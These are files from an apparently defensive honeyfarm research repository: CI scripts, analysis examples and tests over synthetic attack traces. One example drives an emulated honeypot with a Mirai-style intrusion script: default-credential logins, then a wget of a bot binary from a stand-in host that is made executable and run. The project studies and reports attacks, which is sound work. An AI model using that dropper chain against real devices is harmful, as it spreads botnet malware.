#!/usr/bin/env bash
# Tier-1 gate: the full unit/integration suite plus a sharded-generation
# calibration smoke test (2 workers, 1/40000 scale — a few seconds).
#
# Run from the repository root:  bash scripts/ci.sh
set -euo pipefail

cd "$(dirname "$0")/.."
export PYTHONPATH="src${PYTHONPATH:+:$PYTHONPATH}"

echo "== tier-1 tests =="
python -m pytest -x -q

SCRATCH="$(mktemp -d)"
trap 'rm -rf "$SCRATCH"' EXIT

echo "== determinism & invariant lint (repro.lint) =="
python -m repro lint src

echo "== lint self-check (a seeded violation must fail the gate) =="
mkdir -p "$SCRATCH/seeded"
printf 'import random\n\ndef pick(xs):\n    return random.choice(xs)\n' \
    > "$SCRATCH/seeded/workload_patch.py"
if python -m repro lint "$SCRATCH/seeded" --no-baseline > /dev/null 2>&1; then
    echo "lint self-check FAILED: seeded 'import random' was not flagged"
    exit 1
fi
echo "lint self-check ok (seeded violation rejected)"

echo "== whole-program lint (taint, stream lineage, worker boundaries) =="
python -m repro lint --rules determinism-flow,rng-lineage,worker-boundary src
python -m repro lint src --no-baseline --format sarif > "$SCRATCH/lint.sarif"
python - "$SCRATCH/lint.sarif" <<'PY'
import json
import sys

from repro.lint import validate_sarif

with open(sys.argv[1], encoding="utf-8") as fh:
    payload = json.load(fh)
problems = validate_sarif(payload)
if problems:
    raise SystemExit("SARIF artifact invalid: " + "; ".join(problems[:5]))
results = payload["runs"][0]["results"]
if results:
    raise SystemExit(f"SARIF artifact reports {len(results)} finding(s)")
rules = payload["runs"][0]["tool"]["driver"]["rules"]
print(f"lint-graph ok (SARIF artifact valid, {len(rules)} rules declared, "
      f"0 findings)")
PY

# Third-party tooling is optional in this container: gate on availability
# so the pipeline stays runnable offline, but never silently skip.
echo "== ruff (gated on availability) =="
if command -v ruff > /dev/null 2>&1; then
    ruff check src tests
    ruff format --check src/repro/lint src/repro/obs
else
    echo "ruff not installed; skipping (pip install -e '.[dev]' to enable)"
fi

echo "== mypy (gated on availability) =="
if command -v mypy > /dev/null 2>&1; then
    mypy src/repro/lint src/repro/obs src/repro/sched src/repro/analytics
else
    echo "mypy not installed; skipping (pip install -e '.[dev]' to enable)"
fi

echo "== analytics coverage (gated on pytest-cov availability) =="
if python -c "import pytest_cov" > /dev/null 2>&1; then
    python -m pytest tests/test_analytics_sketches.py \
        tests/test_analytics_differential.py -q \
        --cov=repro.analytics --cov-report=term-missing:skip-covered \
        --cov-fail-under=90
else
    echo "pytest-cov not installed; skipping (pip install -e '.[dev]' to enable)"
fi

echo "== streaming-vs-batch smoke (exact aggregates must match bit for bit) =="
python - <<'PY'
import numpy as np

import repro
from repro.analytics import StreamingAnalytics
from repro.core.classify import CATEGORIES, classify_store
from repro.core.timeseries import daily_totals

store = repro.generate(
    repro.ScenarioConfig(scale=1 / 80000, seed=7, hash_scale=0.004),
    backend="inline", workers=1,
).store
analytics = StreamingAnalytics()
analytics.ingest_store(store)

batch_mix = np.bincount(classify_store(store), minlength=len(CATEGORIES))
mix = analytics.category_counts()
for code, category in enumerate(CATEGORIES):
    if mix[category.value] != int(batch_mix[code]):
        raise SystemExit(
            f"category mix diverged at {category.value}: "
            f"streaming {mix[category.value]} vs batch {int(batch_mix[code])}")
batch_daily = daily_totals(store)
if not np.array_equal(analytics.sessions_per_day(len(batch_daily)), batch_daily):
    raise SystemExit("sessions-per-day diverged between streaming and batch")
print(f"streaming-vs-batch ok ({analytics.session_count():,} sessions, "
      f"mix + daily totals exact)")
PY

echo "== scalar-vs-block emit-path smoke (stores byte-identical) =="
python - <<'PY'
import os
import repro

config = repro.ScenarioConfig(scale=1 / 80000, seed=7, hash_scale=0.004)
digests = {}
for path in ("scalar", "block"):
    os.environ["REPRO_EMIT_PATH"] = path
    digests[path] = {
        backend: repro.generate(
            config, backend=backend, workers=2 if backend == "pool" else 1
        ).store.content_digest()
        for backend in ("inline", "pool")
    }
os.environ.pop("REPRO_EMIT_PATH", None)
if digests["scalar"] != digests["block"] \
        or len(set(digests["scalar"].values())) != 1:
    raise SystemExit(f"emit paths diverged: {digests}")
print(f"emit-path smoke ok (sha256 "
      f"{next(iter(digests['block'].values()))[:16]}... scalar == block, "
      f"inline + pool)")
PY

echo "== backend matrix smoke (inline / pool / queue byte-identical) =="
python - <<'PY'
import repro

config = repro.ScenarioConfig(scale=1 / 80000, seed=7, hash_scale=0.004)
digests = {
    name: repro.generate(
        config, backend=name, workers=2 if name == "pool" else 1
    ).store.content_digest()
    for name in ("inline", "pool", "queue")
}
if len(set(digests.values())) != 1:
    raise SystemExit(f"backend matrix diverged: {digests}")
print(f"backend matrix ok (sha256 {next(iter(digests.values()))[:16]}... x3)")
PY

echo "== run-ledger determinism (inline w=1 vs pool w=2, strip-identical) =="
python -m repro generate --scale 80000 --hash-scale 0.004 --seed 7 \
    --workers 1 --backend inline --out "$SCRATCH/ledger_a.npz" \
    --ledger "$SCRATCH/ledger_a.jsonl" > /dev/null 2> /dev/null
python -m repro generate --scale 80000 --hash-scale 0.004 --seed 7 \
    --workers 2 --backend pool --out "$SCRATCH/ledger_b.npz" \
    --ledger "$SCRATCH/ledger_b.jsonl" --trace "$SCRATCH/top_trace.jsonl" \
    > /dev/null 2> /dev/null
python - "$SCRATCH" <<'PY'
import json
import sys

from repro.obs import read_ledger_jsonl, strip_volatile_records, \
    validate_ledger

scratch = sys.argv[1]
ledgers = {name: read_ledger_jsonl(f"{scratch}/ledger_{name[0]}.jsonl")
           for name in ("a_inline_w1", "b_pool_w2")}
for name, records in ledgers.items():
    problems = validate_ledger(records)
    if problems:
        raise SystemExit(f"{name} ledger invalid: {problems[:5]}")
stripped = [json.dumps(strip_volatile_records(r), sort_keys=True)
            for r in ledgers.values()]
if stripped[0] != stripped[1]:
    raise SystemExit("ledgers diverge after stripping volatile fields")
finals = [next(r for r in records if r["record"] == "final")
          for records in ledgers.values()]
if finals[0]["store_sha256"] != finals[1]["store_sha256"]:
    raise SystemExit("final store sha256 differs between worker counts")
a = ledgers["a_inline_w1"]
beats = sum(1 for r in a if r["record"] == "heartbeat")
tasks = sum(1 for r in a if r["record"] == "task")
print(f"run-ledger ok ({len(a)} records, {tasks} task rows, "
      f"{beats} heartbeats, store sha256 "
      f"{finals[0]['store_sha256'][:16]}..., stripped identical)")
PY

echo "== repro top smoke (--once over the recorded pool trace) =="
TOP_FRAME="$(python -m repro top --once --input "$SCRATCH/top_trace.jsonl")"
echo "$TOP_FRAME" | grep -q "pool-" \
    || { echo "repro top rendered no pool worker row"; exit 1; }
echo "repro top smoke ok (pool worker rows rendered)"

echo "== sharded generation smoke (validate, 2 workers, with metrics + trace) =="
python -m repro validate --scale 40000 --workers 2 \
    --metrics "$SCRATCH/ci_metrics.json" --trace "$SCRATCH/ci_trace.jsonl" \
    2> /dev/null

echo "== benchmark trajectory (append + 20% throughput regression gate) =="
# workers=2 routes through the scheduler's pool backend, so this entry
# tracks the scheduled path; the gate compares against the previous run.
python -m repro.obs.trajectory --metrics "$SCRATCH/ci_metrics.json" \
    --out BENCH_trajectory.json --fail-threshold 0.2 \
    --context scale=40000 --context workers=2 --context backend=pool \
    --context emit_path="${REPRO_EMIT_PATH:-block}" --context source=ci

echo "== flight-recorder smoke (schema-validate the traced run's JSONL) =="
python -m repro monitor --input "$SCRATCH/ci_trace.jsonl" --validate \
    --interval 86400 > /dev/null

echo "== farm-health monitor smoke (live demo must raise a fresh-hash alert) =="
MONITOR_OUT="$(python -m repro monitor --duration 3600 --pots 6)"
echo "$MONITOR_OUT" | grep -q "FRESH-HASH" \
    || { echo "monitor demo raised no fresh-hash alert"; exit 1; }
echo "$MONITOR_OUT" | grep -c "FRESH-HASH\|LIVENESS-DOWN\|RATE-DRIFT" \
    | xargs -I{} echo "monitor smoke ok ({} alert lines)"

echo "== dataset cache round-trip smoke (cold generate, warm hit) =="
CACHE_DIR="$SCRATCH/cache"
mkdir -p "$CACHE_DIR"
python -m repro report --scale 40000 --cache-dir "$CACHE_DIR" > /dev/null
WARM_METRICS="$(python -m repro report --scale 40000 --cache-dir "$CACHE_DIR" \
    --metrics 2>&1 > /dev/null)"
echo "$WARM_METRICS" | grep "cache.hits" \
    || { echo "warm run did not hit the cache"; exit 1; }

echo "== generation benchmark (quick) =="
REPRO_BENCH_GEN_SCALE=40000 python -m pytest benchmarks/bench_generation.py -q
