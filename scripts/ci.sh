#!/usr/bin/env bash
# Tier-1 gate: the full unit/integration suite plus a sharded-generation
# calibration smoke test (2 workers, 1/40000 scale — a few seconds).
#
# Run from the repository root:  bash scripts/ci.sh
set -euo pipefail

cd "$(dirname "$0")/.."
export PYTHONPATH="src${PYTHONPATH:+:$PYTHONPATH}"

echo "== tier-1 tests =="
python -m pytest -x -q

echo "== sharded generation smoke (validate, 2 workers, with metrics) =="
python -m repro validate --scale 40000 --workers 2 --metrics
