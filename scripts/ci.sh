#!/usr/bin/env bash
# Tier-1 gate: the full unit/integration suite plus a sharded-generation
# calibration smoke test (2 workers, 1/40000 scale — a few seconds).
#
# Run from the repository root:  bash scripts/ci.sh
set -euo pipefail

cd "$(dirname "$0")/.."
export PYTHONPATH="src${PYTHONPATH:+:$PYTHONPATH}"

echo "== tier-1 tests =="
python -m pytest -x -q

echo "== sharded generation smoke (validate, 2 workers, with metrics) =="
python -m repro validate --scale 40000 --workers 2 --metrics

echo "== dataset cache round-trip smoke (cold generate, warm hit) =="
CACHE_DIR="$(mktemp -d)"
trap 'rm -rf "$CACHE_DIR"' EXIT
python -m repro report --scale 40000 --cache-dir "$CACHE_DIR" > /dev/null
WARM_METRICS="$(python -m repro report --scale 40000 --cache-dir "$CACHE_DIR" \
    --metrics 2>&1 > /dev/null)"
echo "$WARM_METRICS" | grep "cache.hits" \
    || { echo "warm run did not hit the cache"; exit 1; }

echo "== generation benchmark (quick) =="
REPRO_BENCH_GEN_SCALE=40000 python -m pytest benchmarks/bench_generation.py -q
