#!/usr/bin/env python3
"""Federated honeyfarms: quantify the value of sharing data.

The paper's discussion calls for independent honeyfarm operators to share
their collected intelligence.  This example splits the generated farm into
four independent "operators" and measures what each misses: hash coverage,
detection latency, and the marginal value of farm size.

Run:  python examples/federation_value.py
"""

from repro.core.blocking import blockable_campaigns
from repro.core.federation import coverage_by_farm_size, federation_report
from repro.core.hashes import HashOccurrences, compute_hash_stats
from repro.simulation.rng import RngStream
from repro.workload import ScenarioConfig, generate_dataset


def main() -> None:
    config = ScenarioConfig(scale=1 / 4000, seed=21, hash_scale=0.02)
    print(f"Generating {config.total_sessions:,} sessions ...")
    dataset = generate_dataset(config)
    occ = HashOccurrences.build(dataset.store)

    print(f"\nThe full farm observed {occ.n_hashes:,} unique file hashes.")
    report = federation_report(occ, k=4, rng=RngStream(1, "fed"))
    print("\nSplit into 4 independent operators:")
    for i, sub in enumerate(report.sub_farms, start=1):
        print(f"  operator {i}: {len(sub.honeypots)} pots -> "
              f"{sub.coverage:.1%} hash coverage, "
              f"detection lags the federation by "
              f"{sub.mean_detection_lag:.1f} days on average")
    print(f"\nFederating quadruples nobody's cost but lifts the best "
          f"operator's visibility {report.federation_gain:.2f}x "
          "(to 100% of the union).")

    print("\nMarginal value of scale (mean hash coverage of a random farm):")
    curve = coverage_by_farm_size(occ, [1, 5, 20, 55, 110, 221],
                                  RngStream(2, "curve"))
    for size, coverage in sorted(curve.items()):
        bar = "#" * int(coverage * 40)
        print(f"  {size:>3} pots  {coverage:6.1%}  {bar}")

    # Shared intelligence also exposes the blockable long-lived campaigns
    # that any single operator might dismiss as noise.
    stats = compute_hash_stats(occ)
    blockable = blockable_campaigns(stats, dataset.store, dataset.intel,
                                    max_ips=5, min_days=60)
    print(f"\nFederation-visible blockable campaigns (<=5 IPs, >=60 days): "
          f"{len(blockable)} — each would vanish if anyone blocked a "
          "handful of addresses.")


if __name__ == "__main__":
    main()
