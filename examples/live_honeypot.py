#!/usr/bin/env python3
"""Drive one honeypot interactively: a full intrusion transcript.

Shows the medium-interaction honeypot engine end to end: TCP accept on
port 22, the root-login policy, an emulated shell session running a real
Mirai-style dropper chain, the recorded events, and the resulting
per-session summary record.

Run:  python examples/live_honeypot.py
"""

from repro.honeypot import Honeypot, HoneypotConfig
from repro.honeypot.shell.resolver import StaticPayloadResolver
from repro.net.ip import parse_ip

BOT_PAYLOAD = b"\x7fELF\x01\x01\x01" + b"mirai-like-bot" * 512


def main() -> None:
    events = []
    resolver = StaticPayloadResolver({"http://198.51.100.9/bins/arm7": BOT_PAYLOAD})
    honeypot = Honeypot(
        HoneypotConfig(
            honeypot_id="hp-042",
            ip=parse_ip("1.0.42.17"),
            country="SG",
            asn=64512,
        ),
        event_sink=events.append,
        resolver=resolver,
    )

    attacker_ip = parse_ip("203.0.113.66")
    session = honeypot.accept(attacker_ip, 51023, dst_port=22, now=0.0)
    session.offer_client_version("SSH-2.0-libssh2_1.4.3", 0.4)

    # Credential bruteforce: two failures, then the Mirai default.
    session.try_login("admin", "admin", 1.0)
    session.try_login("root", "root", 2.2)      # the one rejected password
    session.try_login("root", "1234", 3.5)      # accepted

    script = [
        "enable",
        "system",
        "shell",
        "/bin/busybox ECCHI",
        "cat /proc/mounts; /bin/busybox PEACH",
        "cd /tmp; wget http://198.51.100.9/bins/arm7",
        "chmod 777 arm7; ./arm7; /bin/busybox IHCCE",
    ]
    now = 5.0
    print("=== attacker shell transcript ===")
    for line in script:
        result = session.input_line(line, now)
        for record in result.commands:
            marker = " " if record.known else "?"
            print(f"[{marker}] $ {record.text}")
            if record.output:
                print("      " + record.output.replace("\n", "\n      "))
        now += 3.0
    session.client_disconnect(now)

    summary = honeypot.reap(now + 1.0)[0]
    print("\n=== session summary (what the farm collector stores) ===")
    print(f"protocol:        {summary.protocol.value}")
    print(f"client version:  {summary.client_version}")
    print(f"login attempts:  {summary.credentials}")
    print(f"duration:        {summary.duration:.1f}s "
          f"(closed: {summary.close_reason.value})")
    print(f"commands:        {len(summary.commands)} recorded")
    print(f"URIs:            {summary.uris}")
    print(f"file hashes:     {[h[:16] + '...' for h in summary.file_hashes]}")

    print(f"\n=== {len(events)} structured events emitted ===")
    for event in events:
        print(f"  t={event.timestamp:7.1f}  {event.event_type.value}")


if __name__ == "__main__":
    main()
