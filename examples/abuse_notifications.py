#!/usr/bin/env python3
"""Generate abuse notifications for the networks attacking the farm.

The paper's conclusion announces plans to "jointly notify networks
participating in connections to the honeyfarm".  This example builds those
notifications from a generated trace: one report per offending AS with its
addresses, behaviours, malware hashes, and a severity triage.

Run:  python examples/abuse_notifications.py
"""

from collections import Counter

from repro.core.notify import build_abuse_reports
from repro.workload import ScenarioConfig, generate_dataset


def main() -> None:
    config = ScenarioConfig(scale=1 / 8000, seed=33, hash_scale=0.01)
    print(f"Generating {config.total_sessions:,} sessions ...")
    dataset = generate_dataset(config)

    reports = build_abuse_reports(
        dataset.store, dataset.intel, min_sessions=25, top_k_ases=40
    )
    severities = Counter(r.severity for r in reports)
    print(f"\nBuilt {len(reports)} notifications "
          f"({', '.join(f'{k}: {v}' for k, v in severities.most_common())}).")

    critical = [r for r in reports if r.severity == "critical"]
    print(f"\n=== first critical notification "
          f"(of {len(critical)}) ===")
    print(critical[0].render())

    # The dispatch queue an operator would actually work through.
    print("\n=== dispatch queue (worst first) ===")
    rank = {"critical": 0, "high": 1, "medium": 2, "low": 3}
    queue = sorted(reports, key=lambda r: (rank[r.severity], -r.n_sessions))
    for report in queue[:12]:
        print(f"  [{report.severity:>8}] AS{report.asn} ({report.country}): "
              f"{report.n_sessions:,} sessions, {len(report.ips)} IPs, "
              f"{report.n_hashes} hashes, window {report.window_start}"
              f"..{report.window_end}")


if __name__ == "__main__":
    main()
