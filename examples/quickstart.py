#!/usr/bin/env python3
"""Quickstart: generate a scaled honeyfarm trace and reproduce Table 1.

Generates a 15-month synthetic trace (scaled down from the paper's 402M
sessions), classifies every session into the paper's taxonomy, and prints
the headline paper-vs-measured comparison.

Run:  python examples/quickstart.py [--scale 4000]
(--scale N means 1/N of the paper's session volume; default 4000 ~ 100k
sessions, a few seconds.)
"""

import argparse

from repro.core.report import print_summary
from repro.core.tables import format_table, table1_categories, table2_passwords
from repro.workload import ScenarioConfig, generate_dataset


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--scale", type=int, default=4000,
                        help="downscale factor vs the paper's 402M sessions")
    parser.add_argument("--seed", type=int, default=2023)
    args = parser.parse_args()

    config = ScenarioConfig(scale=1.0 / args.scale, seed=args.seed,
                            hash_scale=min(0.08, 80.0 / args.scale))
    print(f"Generating {config.total_sessions:,} sessions "
          f"across {config.n_honeypots} honeypots / {config.n_days} days ...")
    dataset = generate_dataset(config)
    print(f"Done: {dataset.n_sessions:,} sessions, "
          f"{len(dataset.store.hashes):,} unique file hashes, "
          f"{len(dataset.campaigns):,} campaigns.\n")

    t1 = table1_categories(dataset.store)
    rows = [
        (cat, f"{share:.2%}", f"{t1.ssh_share_of_category[cat]:.2%}")
        for cat, share in t1.overall.items()
    ]
    print("Table 1 — session categories (measured):")
    print(format_table(rows, ["category", "% of sessions", "SSH share"]))
    print()

    print("Table 2 — top successful passwords (measured):")
    print(format_table(table2_passwords(dataset.store),
                       ["password", "logins"]))
    print()

    print(print_summary(dataset))


if __name__ == "__main__":
    main()
