#!/usr/bin/env python3
"""Honeypot placement study: what does each vantage point actually see?

The paper's operational conclusion: visibility is wildly uneven, the pots
with most sessions are not the pots with most clients or hashes, and even
the best single honeypot observes <5% of all file hashes — diversity and
scale are what make a honeyfarm work.  This example quantifies exactly
that on a generated trace, the analysis an operator would run before
expanding a deployment.

Run:  python examples/placement_study.py
"""

import numpy as np

from repro.core import activity
from repro.core.clients import clients_per_honeypot
from repro.core.freshness import fresh_hashes_per_honeypot
from repro.core.hashes import HashOccurrences, hashes_per_honeypot
from repro.core.tables import format_table
from repro.workload import ScenarioConfig, generate_dataset


def main() -> None:
    config = ScenarioConfig(scale=1 / 4000, seed=7, hash_scale=0.02)
    print(f"Generating {config.total_sessions:,} sessions ...")
    dataset = generate_dataset(config)
    store = dataset.store

    sessions = activity.sessions_per_honeypot(store)
    clients = clients_per_honeypot(store)
    occ = HashOccurrences.build(store)
    hashes = hashes_per_honeypot(occ)
    first_seen = fresh_hashes_per_honeypot(occ)

    def top10(counts):
        return set(np.argsort(counts)[::-1][:10].tolist())

    top_sessions, top_clients, top_hashes = (
        top10(sessions), top10(clients), top10(hashes))

    print("\nTop-10 honeypots by metric (indices):")
    print(f"  sessions: {sorted(top_sessions)}")
    print(f"  clients:  {sorted(top_clients)}")
    print(f"  hashes:   {sorted(top_hashes)}")
    print(f"  sessions∩clients: {len(top_sessions & top_clients)}, "
          f"sessions∩hashes: {len(top_sessions & top_hashes)} "
          "(the paper finds these sets differ)")

    n_hashes = occ.n_hashes
    best_pot = int(np.argmax(hashes))
    print(f"\nBest single vantage point (pot {best_pot}) sees "
          f"{hashes[best_pot] / n_hashes:.1%} of all {n_hashes:,} hashes "
          "(paper: <5%) — one honeypot is never enough.")

    # Early-warning value: the pots that collect the most hashes are also
    # the ones that see new hashes first (paper Section 8.4).
    order = np.argsort(hashes)[::-1]
    rows = []
    for rank, pot in enumerate(order[:10], start=1):
        site = dataset.deployment.sites[pot]
        rows.append((
            rank, site.honeypot_id, site.country,
            int(sessions[pot]), int(clients[pot]), int(hashes[pot]),
            int(first_seen[pot]),
        ))
    print("\nTop hash-collecting honeypots (and how many hashes they saw "
          "before anyone else):")
    print(format_table(rows, ["rank", "pot", "cc", "#sessions", "#clients",
                              "#hashes", "#first-seen"]))

    share_top = first_seen[order[:10]].sum() / max(first_seen.sum(), 1)
    print(f"\nThe top-10 hash collectors are first observer for "
          f"{share_top:.1%} of all hashes — early-detection value "
          "concentrates with the collectors, not with the session magnets.")


if __name__ == "__main__":
    main()
