#!/usr/bin/env python3
"""Campaign forensics: track attack campaigns through the farm's hashes.

Reproduces the paper's Section 8 workflow on a generated trace: rank file
hashes by sessions / client IPs / active days (Tables 4-6), cross-check
them against the threat-intel database, and separate campaigns that are
easy to neutralise (a handful of client IPs) from botnet-driven ones.

Run:  python examples/campaign_forensics.py
"""

from repro.core.hashes import HashOccurrences, compute_hash_stats, top_hash_table
from repro.core.tables import format_table
from repro.workload import ScenarioConfig, generate_dataset


def main() -> None:
    config = ScenarioConfig(scale=1 / 4000, seed=42, hash_scale=0.02)
    print(f"Generating {config.total_sessions:,} sessions ...")
    dataset = generate_dataset(config)
    store = dataset.store

    occ = HashOccurrences.build(store)
    stats = compute_hash_stats(occ)
    labels = {c.primary_hash: c.campaign_id for c in dataset.campaigns
              if c.primary_hash}

    print(f"\n{occ.n_hashes:,} unique hashes observed "
          f"(paper: 64,004 at full scale)\n")

    for sort_by, title in (("sessions", "Table 4 — top hashes by #sessions"),
                           ("clients", "Table 5 — top hashes by #client IPs"),
                           ("days", "Table 6 — top hashes by #active days")):
        rows = top_hash_table(stats, store, dataset.intel, sort_by, k=10,
                              labels=labels)
        print(title)
        print(format_table(
            [(r.hash_label, r.n_sessions, r.n_clients, r.n_days, r.tag,
              r.n_honeypots) for r in rows],
            ["hash", "#sessions", "#clients", "#days", "tag", "#pots"],
        ))
        print()

    # The paper's blocking argument: long-lived campaigns run by a handful
    # of IPs could be neutralised by blocking those IPs — yet they persist.
    observed = stats.sessions > 0
    blockable = (
        observed & (stats.clients <= 5) & (stats.days >= 30)
    )
    print(f"Blockable-but-persistent campaigns "
          f"(<=5 client IPs, active >=30 days): {int(blockable.sum())}")
    for hash_id in stats.hash_id[blockable][:8]:
        sha = store.hashes.value_of(int(hash_id))
        label = labels.get(sha, sha[:12])
        print(f"  {label:>10}: {int(stats.clients[hash_id])} IPs, "
              f"{int(stats.days[hash_id])} days, "
              f"{int(stats.honeypots[hash_id])} honeypots, "
              f"tag={dataset.intel.tag_of(sha).value}")

    botnet = observed & (stats.clients >= 100)
    print(f"\nBotnet-scale campaigns (>=100 client IPs): {int(botnet.sum())} "
          "— blocking individual IPs cannot stop these.")


if __name__ == "__main__":
    main()
