"""Tests for regional diversity analysis (Figures 16, 24)."""

import numpy as np
import pytest

from repro.core.diversity import (
    BIT_OUT_CONTINENT,
    BIT_SAME_CONTINENT,
    BIT_SAME_COUNTRY,
    COMBO_NAMES,
    diversity_by_category,
    regional_diversity,
    session_relations,
)
from repro.store.records import SessionRecord
from repro.store.store import StoreBuilder

#: Pot 0 in Germany, pot 1 in Singapore.
POT_COUNTRIES = ["DE", "SG"]


def store_with(rows):
    builder = StoreBuilder()
    builder.honeypots.intern("p0")
    builder.honeypots.intern("p1")
    for row in rows:
        base = dict(duration=1.0, protocol="ssh", client_asn=1,
                    n_login_attempts=0, login_success=False)
        base.update(row)
        builder.append(SessionRecord(**base))
    return builder.build()


class TestSessionRelations:
    def test_same_country(self):
        store = store_with([
            dict(start_time=0.0, honeypot_id="p0", client_ip=1, client_country="DE"),
        ])
        assert session_relations(store, POT_COUNTRIES).tolist() == [BIT_SAME_COUNTRY]

    def test_same_continent(self):
        store = store_with([
            dict(start_time=0.0, honeypot_id="p0", client_ip=1, client_country="FR"),
        ])
        assert session_relations(store, POT_COUNTRIES).tolist() == [BIT_SAME_CONTINENT]

    def test_out_of_continent(self):
        store = store_with([
            dict(start_time=0.0, honeypot_id="p0", client_ip=1, client_country="CN"),
        ])
        assert session_relations(store, POT_COUNTRIES).tolist() == [BIT_OUT_CONTINENT]

    def test_asia_to_singapore_is_same_continent(self):
        store = store_with([
            dict(start_time=0.0, honeypot_id="p1", client_ip=1, client_country="CN"),
        ])
        assert session_relations(store, POT_COUNTRIES).tolist() == [BIT_SAME_CONTINENT]


class TestAggregation:
    def test_mixed_day_combo(self):
        # One client hits DE pot (same country) and SG pot (out) on day 0.
        store = store_with([
            dict(start_time=0.0, honeypot_id="p0", client_ip=1, client_country="DE"),
            dict(start_time=50.0, honeypot_id="p1", client_ip=1, client_country="DE"),
        ])
        report = regional_diversity(store, POT_COUNTRIES)
        combo = BIT_SAME_COUNTRY | BIT_OUT_CONTINENT
        assert report.daily_combos[combo][0] == 1
        assert report.daily_clients[0] == 1

    def test_separate_days_counted_separately(self):
        store = store_with([
            dict(start_time=0.0, honeypot_id="p0", client_ip=1, client_country="DE"),
            dict(start_time=86_400.0, honeypot_id="p1", client_ip=1, client_country="DE"),
        ])
        report = regional_diversity(store, POT_COUNTRIES)
        assert report.daily_combos[BIT_SAME_COUNTRY][0] == 1
        assert report.daily_combos[BIT_OUT_CONTINENT][1] == 1

    def test_shares(self):
        store = store_with([
            dict(start_time=0.0, honeypot_id="p0", client_ip=1, client_country="CN"),
            dict(start_time=0.0, honeypot_id="p0", client_ip=2, client_country="DE"),
        ])
        report = regional_diversity(store, POT_COUNTRIES)
        assert report.out_only_share == pytest.approx(0.5)
        assert report.any_local_share == pytest.approx(0.5)

    def test_empty_mask(self):
        store = store_with([
            dict(start_time=0.0, honeypot_id="p0", client_ip=1, client_country="DE"),
        ])
        report = regional_diversity(store, POT_COUNTRIES,
                                    np.zeros(1, dtype=bool))
        assert report.out_only_share == 0.0

    def test_combo_names_complete(self):
        assert set(COMBO_NAMES) == set(range(1, 8))


class TestPaperShape:
    def test_out_of_continent_dominates(self, small_dataset):
        pot_countries = [s.country for s in small_dataset.deployment.sites]
        report = regional_diversity(small_dataset.store, pot_countries)
        # Paper: >50% of daily interactions stay entirely off-continent.
        assert report.out_only_share > 0.40

    def test_uri_sessions_more_local(self, small_dataset):
        pot_countries = [s.country for s in small_dataset.deployment.sites]
        by_cat = diversity_by_category(small_dataset.store, pot_countries)
        # Paper Fig 16b/24e: CMD+URI is markedly more local than scanning.
        assert (
            by_cat["CMD_URI"].out_only_share
            < by_cat["NO_CRED"].out_only_share
        )
