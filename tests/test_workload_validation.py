"""Tests for the structured calibration validator."""

import pytest

from repro.workload.validation import (
    CalibrationCheck,
    CalibrationReport,
    CheckKind,
    validate,
)


class TestCheckSemantics:
    def test_approx_pass(self):
        check = CalibrationCheck("x", 0.42, 0.44, CheckKind.APPROX, 0.03)
        assert check.passed

    def test_approx_fail(self):
        check = CalibrationCheck("x", 0.42, 0.50, CheckKind.APPROX, 0.03)
        assert not check.passed

    def test_at_least(self):
        assert CalibrationCheck("x", 0.5, 0.6, CheckKind.AT_LEAST).passed
        assert not CalibrationCheck("x", 0.5, 0.4, CheckKind.AT_LEAST).passed

    def test_at_most(self):
        assert CalibrationCheck("x", 0.05, 0.04, CheckKind.AT_MOST).passed
        assert not CalibrationCheck("x", 0.05, 0.06, CheckKind.AT_MOST).passed

    def test_str_marks(self):
        ok = CalibrationCheck("a", 1.0, 1.0, CheckKind.APPROX, 0.1)
        bad = CalibrationCheck("b", 1.0, 9.0, CheckKind.APPROX, 0.1)
        soft = CalibrationCheck("c", 1.0, 9.0, CheckKind.APPROX, 0.1, hard=False)
        assert "ok" in str(ok)
        assert "FAIL" in str(bad)
        assert "soft" in str(soft)


class TestReport:
    def test_passed_ignores_soft(self):
        report = CalibrationReport(checks=[
            CalibrationCheck("hard-ok", 1.0, 1.0, CheckKind.APPROX, 0.1),
            CalibrationCheck("soft-bad", 1.0, 9.0, CheckKind.APPROX, 0.1,
                             hard=False),
        ])
        assert report.passed
        assert report.failures == []

    def test_failures_listed(self):
        bad = CalibrationCheck("hard-bad", 1.0, 9.0, CheckKind.APPROX, 0.1)
        report = CalibrationReport(checks=[bad])
        assert not report.passed
        assert report.failures == [bad]

    def test_render(self):
        report = CalibrationReport(checks=[
            CalibrationCheck("one", 1.0, 1.0, CheckKind.APPROX, 0.1),
        ])
        assert "one" in report.render()


class TestGeneratedDataset:
    def test_small_dataset_calibrates(self, small_dataset):
        report = validate(small_dataset)
        assert report.passed, report.render()

    def test_check_count(self, small_dataset):
        report = validate(small_dataset)
        # Every published target family is checked.
        assert len(report.checks) >= 15
        names = {c.name for c in report.checks}
        assert "honeypots" in names
        assert "SSH share" in names
        assert "top-10 session share" in names
        assert "single-pot hash share" in names
