"""End-to-end metrics invariants over a tiny (1/40000) pipeline run.

The observability layer is always on; these tests run real pipeline
stages under an isolated registry and assert the cross-subsystem
invariants the counters are supposed to guarantee: emitted sessions match
the store, the event engine drops nothing, the analysis cache actually
caches, and the CLI surfaces it all.
"""

from __future__ import annotations

import json

import pytest

from repro.core.report import full_report
from repro.obs import Metrics, use_metrics
from repro.workload import ScenarioConfig, generate_dataset
from repro.workload.validation import validate

TINY = ScenarioConfig(scale=1 / 40000, seed=11, hash_scale=0.004)


@pytest.fixture(scope="module")
def generation():
    """(dataset, metrics recorded while generating it)."""
    with use_metrics() as metrics:
        dataset = generate_dataset(TINY)
    return dataset, metrics


class TestGenerationInvariants:
    def test_sessions_emitted_matches_store(self, generation):
        dataset, metrics = generation
        assert metrics.counter("store.sessions_appended") == len(dataset.store)
        per_category = sum(
            value for name, value in metrics.counters.items()
            if name.startswith("generator.sessions.")
        )
        assert per_category == len(dataset.store)

    def test_fast_profiler_skips_the_engine(self, generation):
        # The fast profiler drives the emulated shell directly (DESIGN
        # 6h), so pure generation schedules no engine events at all.
        _, metrics = generation
        assert metrics.counter("engine.events_scheduled") == 0
        assert metrics.counter("engine.events_dispatched") == 0


class TestEngineReferenceInvariants:
    """The engine/session invariants, held by the profiler's oracle path."""

    @pytest.fixture(scope="class")
    def engine_profiling(self):
        from repro.agents.scripts import ScriptKind, build_script
        from repro.workload.script_runner import ScriptRunner

        with use_metrics() as metrics:
            runner = ScriptRunner()
            for kind in ScriptKind:
                runner.profile_via_engine(build_script(kind, token="ref"))
        return metrics

    def test_engine_drops_no_events(self, engine_profiling):
        metrics = engine_profiling
        scheduled = metrics.counter("engine.events_scheduled")
        dispatched = metrics.counter("engine.events_dispatched")
        cancelled = metrics.counter("engine.events_cancelled")
        assert dispatched > 0
